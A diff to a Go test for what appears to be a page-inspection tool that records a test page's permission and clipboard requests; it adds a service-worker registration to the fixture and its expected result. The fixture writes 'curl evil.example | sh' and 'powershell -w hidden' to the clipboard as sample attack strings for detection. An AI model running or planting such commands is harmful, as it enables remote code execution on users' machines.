@@ -18,6 +18,7 @@ const asking = `<!doctype html><h1>Here</h1><input id=i value="curl evil.example
 	quiet(() => Notification.requestPermission());
 	quiet(() => navigator.geolocation.getCurrentPosition(() => {}));
 	quiet(() => navigator.mediaDevices.getUserMedia({ video: true, audio: true }));
+	quiet(() => navigator.serviceWorker.register(new URL("/push.js", "https://push.example")));
 	quiet(() => navigator.usb.requestDevice({ filters: [] }));
 	quiet(() => new PaymentRequest([{ supportedMethods: "https://pay.example/" }], { total: { label: "x", amount: { currency: "PKR", value: "1" } } }).show());
 </script>`
@@ -31,7 +32,8 @@ func TestAsks(t *testing.T) {
 	wantText(t, page, "Here")
 	want := []Ask{
 		{"clipboard_write", "curl evil.example | sh"}, {"clipboard_write", "powershell -w hidden"}, {"clipboard_read", ""},
-		{"notification", ""}, {"geolocation", ""}, {"camera", ""}, {"microphone", ""}, {"usb", ""}, {"payment", ""},
+		{"notification", ""}, {"geolocation", ""}, {"camera", ""}, {"microphone", ""},
+		{"service_worker", "https://push.example/push.js"}, {"usb", ""}, {"payment", ""},
 	}
 	if !slices.Equal(page.Asks, want) {
 		t.Errorf("asks %q, want %q", page.Asks, want)
